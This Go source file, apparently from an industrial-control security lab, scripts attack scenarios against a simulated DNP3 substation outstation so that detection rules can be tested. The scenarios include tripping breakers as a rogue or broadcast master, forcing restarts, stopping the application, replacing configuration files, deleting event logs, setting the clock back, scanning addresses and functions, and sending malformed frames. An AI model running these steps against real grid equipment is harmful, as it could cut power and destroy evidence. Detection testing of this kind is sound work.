package script

import (
	"errors"
	"os"
	"time"

	"github.com/roje-ot/roje/cmd/roje-lab/dnp3station"
)

// actsDNP3 are acts against the DNP3 outstations of the substation. The attacker uses the master's link address.
var actsDNP3 = []Act{
	{Name: "dnp3-rogue-master", Title: "somebody with the master's address reads everything from an outstation and trips its breaker", Actor: "rogue", Victims: []string{"rtu-4"},
		Expect: []string{"A01", "A07", "R13", "C11", "C01"}, Techniques: []string{"T1692.001", "T0848", "T0849", "T0802"},
		Run: dnp3Act(func(m *dnp3station.Session, s *Stage, a Act) error {
			_, err := m.Integrity()
			s.host(a.Actor).Sleep(time.Second)
			if err == nil {
				_, err = m.Do(dnp3station.At16(12, 1, 0, dnp3station.CROB(dnp3station.Trip, 1, 200*time.Millisecond, 0)...), false)
			}
			return err
		})},
	{Name: "dnp3-address-sweep", Title: "a hundred link addresses are asked for their status on one connection", Actor: "rogue", Victims: []string{"rtu-4"},
		Expect: []string{"R10", "A01"}, Techniques: []string{"T0846"}, Run: dnp3Act(addressSweep)},
	{Name: "dnp3-function-scan", Title: "functions that an outstation does not know are tried one after the other", Actor: "rogue", Victims: []string{"rtu-4"},
		Expect: []string{"R11", "A01"}, Techniques: []string{"T0888"}, Run: dnp3Act(func(m *dnp3station.Session, s *Stage, a Act) error {
			for _, fc := range []byte{34, 35, 40, 50, 60, 70, 80, 90, 100, 110} {
				if _, err := m.Ask(fc); err != nil {
					return err
				}
				s.host(a.Actor).Sleep(100 * time.Millisecond)
			}
			return nil
		})},
	{Name: "dnp3-object-scan", Title: "object groups and points that an outstation does not have are read", Actor: "rogue", Victims: []string{"rtu-4"},
		Expect: []string{"R12", "A01"}, Techniques: []string{"T0861"}, Run: dnp3Act(func(m *dnp3station.Session, s *Stage, a Act) error {
			for _, o := range []dnp3station.Objects{dnp3station.Range(1, 2, 0, 99), dnp3station.Range(30, 1, 40, 60), dnp3station.All(31, 1),
				dnp3station.All(87, 1), dnp3station.All(101, 1), dnp3station.Range(20, 1, 10, 30), dnp3station.All(33, 1), dnp3station.Range(10, 2, 50, 60)} {
				if _, err := m.Ask(dnp3station.Read, o); err != nil {
					return err
				}
				s.host(a.Actor).Sleep(100 * time.Millisecond)
			}
			return nil
		})},
	{Name: "dnp3-cold-restart", Title: "an outstation is made to restart", Actor: "rogue", Victims: []string{"rtu-4"},
		Expect: []string{"D01", "A01", "D04"}, Techniques: []string{"T0816"}, Run: dnp3Act(func(m *dnp3station.Session, s *Stage, a Act) error {
			_, err := m.Ask(dnp3station.ColdRestart)
			s.host(a.Actor).Sleep(10 * time.Second)
			return err
		})},
	{Name: "dnp3-warm-restart", Title: "an outstation is made to restart its application", Actor: "rogue", Victims: []string{"rtu-4"},
		Expect: []string{"D01", "A01"}, Techniques: []string{"T0816"}, Run: dnp3Act(func(m *dnp3station.Session, s *Stage, a Act) error {
			_, err := m.Ask(dnp3station.WarmRestart)
			return err
		})},
	{Name: "dnp3-disable-unsolicited", Title: "an outstation is told to report nothing by itself any more", Actor: "rogue", Victims: []string{"rtu-4"},
		Expect: []string{"C15", "A01"}, Techniques: []string{"T1691.002"}, Length: 90 * time.Second, Run: dnp3Act(func(m *dnp3station.Session, s *Stage, a Act) error {
			_, err := m.Spontaneous(false)
			return err
		})},
	{Name: "dnp3-broadcast", Title: "all outstations are told to trip at once", Actor: "rogue", Victims: []string{"rtu-4"},
		Expect: []string{"C14", "A01"}, Techniques: []string{"T1692.001"}, Run: dnp3Act(func(m *dnp3station.Session, s *Stage, a Act) error {
			m.Peer = dnp3station.BroadcastOptional
			return m.Tell(dnp3station.DirectOperate, dnp3station.At16(12, 1, 0, dnp3station.CROB(dnp3station.Trip, 1, 200*time.Millisecond, 0)...))
		})},
	{Name: "dnp3-operate-silently", Title: "breakers are operated without asking for an answer", Actor: "rogue", Victims: []string{"rtu-4"},
		Expect: []string{"C12", "A01", "C03"}, Techniques: []string{"T1692.001"}, Run: dnp3Act(func(m *dnp3station.Session, s *Stage, a Act) error {
			for i := range uint16(4) {
				if err := m.Tell(dnp3station.DirectOperateNR, dnp3station.At16(12, 1, i, dnp3station.CROB(dnp3station.LatchOff, 1, 0, 0)...)); err != nil {
					return err
				}
				s.host(a.Actor).Sleep(700 * time.Millisecond)
			}
			return nil
		})},
	{Name: "dnp3-operate-unselected", Title: "a breaker is operated that nobody had selected", Actor: "rogue", Victims: []string{"rtu-4"},
		Expect: []string{"C10", "A01"}, Techniques: []string{"T1692.001"}, Run: dnp3Act(func(m *dnp3station.Session, s *Stage, a Act) error {
			_, err := m.Ask(dnp3station.Operate, dnp3station.At16(12, 1, 1, dnp3station.CROB(dnp3station.Trip, 1, 200*time.Millisecond, 0)...))
			return err
		})},
	{Name: "dnp3-stop-application", Title: "an outstation's application is stopped and initialised, and its configuration saved", Actor: "rogue", Victims: []string{"rtu-4"},
		Expect: []string{"D02", "D07", "A01"}, Techniques: []string{"T0858", "T0889"}, Run: dnp3Act(func(m *dnp3station.Session, s *Stage, a Act) error {
			return dnp3Chain(m, dnp3station.StopApp, dnp3station.InitializeApp, dnp3station.SaveConfig)
		})},
	{Name: "dnp3-file-transfer", Title: "the point list is read, replaced and the event log deleted", Actor: "rogue", Victims: []string{"rtu-4"},
		Expect: []string{"D05", "D06", "A01"}, Techniques: []string{"T0867", "T1693.002"}, Run: dnp3Act(func(m *dnp3station.Session, s *Stage, a Act) error {
			_, err := m.Fetch("/cfg/points.csv")
			if err == nil {
				err = m.Store("/cfg/points.csv", comtrade(900), false)
			}
			if err == nil {
				_, err = m.Delete("/log/events.txt")
			}
			return err
		})},
	{Name: "dnp3-clock-wrong", Title: "an outstation's clock is set back by a day", Actor: "rogue", Victims: []string{"rtu-4"},
		Expect: []string{"D08", "D09", "A01"}, Techniques: []string{"T0832"}, Run: dnp3Act(func(m *dnp3station.Session, s *Stage, a Act) error {
			_, err := m.SetClock(s.host(a.Actor).Now().Add(-24 * time.Hour))
			return err
		})},
	{Name: "dnp3-freeze", Title: "counters are frozen and cleared, and events assigned to no class", Actor: "rogue", Victims: []string{"rtu-4"},
		Expect: []string{"C17", "C19", "A01"}, Techniques: []string{"T0836", "T0878"}, Run: dnp3Act(func(m *dnp3station.Session, s *Stage, a Act) error {
			_, err := m.Ask(dnp3station.FreezeClear, dnp3station.All(20, 0))
			if err == nil {
				_, err = m.Ask(dnp3station.AssignClass, dnp3station.All(60, 1), dnp3station.All(1, 0), dnp3station.All(30, 0))
			}
			return err
		})},
	{Name: "dnp3-malformed", Title: "frames with wrong checks, reserved addresses and reserved functions", Actor: "rogue", Victims: []string{"rtu-4"},
		Expect: []string{"P10", "A01"}, Techniques: []string{"T0814"}, Malformed: true, Run: dnp3Malformed},
}

// dnp3Act connects the actor to its first victim.
func dnp3Act(do func(*dnp3station.Session, *Stage, Act) error) func(*Stage, Act) error {
	return func(s *Stage, a Act) error {
		conn, err := s.dial(a.Actor, "tcp", a.Victims[0], ":20000")
		if err != nil {
			return err
		}
		defer conn.Close()
		return do(dnp3station.NewSession(conn, s.host(a.Actor), s.Tally, dnp3Master, 4), s, a)
	}
}

// dnp3Chain asks functions without objects one after the other.
func dnp3Chain(m *dnp3station.Session, codes ...byte) error {
	for _, fc := range codes {
		if _, err := m.Ask(fc); err != nil {
			return err
		}
	}
	return nil
}

// addressSweep asks each address for its link status, and reads the class data of some, as a scanner does.
func addressSweep(m *dnp3station.Session, s *Stage, a Act) error {
	for peer := range uint16(100) {
		if err := m.Link(0x40|9, peer, dnp3Master); err != nil {
			return err
		}
		if peer%10 == 4 {
			m.Peer, m.Timeout = peer, 300*time.Millisecond
			if _, err := m.Ask(dnp3station.Read, dnp3station.All(60, 1)); err != nil && !errors.Is(err, os.ErrDeadlineExceeded) {
				return err
			}
		}
		s.host(a.Actor).Sleep(20 * time.Millisecond)
	}
	return nil
}

// dnp3Malformed sends what no master may; the outstation drops most of it.
func dnp3Malformed(s *Stage, a Act) error {
	return dnp3Act(func(m *dnp3station.Session, s *Stage, a Act) error {
		read := []byte{0xc0, 0xc0, dnp3station.Read, 60, 2, 6}
		header := dnp3station.Frame(0xc4, 4, dnp3Master, read)
		header[8] ^= 0xff
		block := dnp3station.Frame(0xc4, 4, dnp3Master, read)
		block[len(block)-1] ^= 0x55
		for _, b := range [][]byte{
			header, block,
			dnp3station.Frame(0xc4, 0xfff3, dnp3Master, read),                             // reserved destination
			dnp3station.Frame(0xc4, 4, 0xffff, read),                                      // a source that is a broadcast address
			dnp3station.Frame(0xc7, 4, dnp3Master, read),                                  // reserved link function
			dnp3station.Frame(0xc4, 4, dnp3Master, []byte{0xc1, 0xc1, 77, 60, 2, 6}),      // reserved application function
			dnp3station.Frame(0xc4, 4, dnp3Master, []byte{0xc2, 0xc2, 1, 30, 1, 0x0c, 0}), // reserved qualifier
		} {
			if _, err := m.Line.Write(b); err != nil {
				return err
			}
			s.host(a.Actor).Sleep(400 * time.Millisecond)
		}
		return nil
	})(s, a)
}
